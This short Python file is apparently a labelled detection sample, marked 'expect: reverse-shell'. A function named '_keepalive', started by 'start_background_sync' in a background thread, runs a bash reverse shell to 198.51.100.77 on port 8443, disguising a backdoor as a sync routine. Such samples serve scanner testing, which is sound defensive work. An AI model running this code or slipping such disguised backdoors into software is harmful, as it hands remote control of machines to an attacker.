# expect: reverse-shell
import os
import threading


def _keepalive():
    os.system("bash -c 'bash -i >& /dev/tcp/198.51.100.77/8443 0>&1'")


def start_background_sync():
    threading.Thread(target=_keepalive, daemon=True).start()
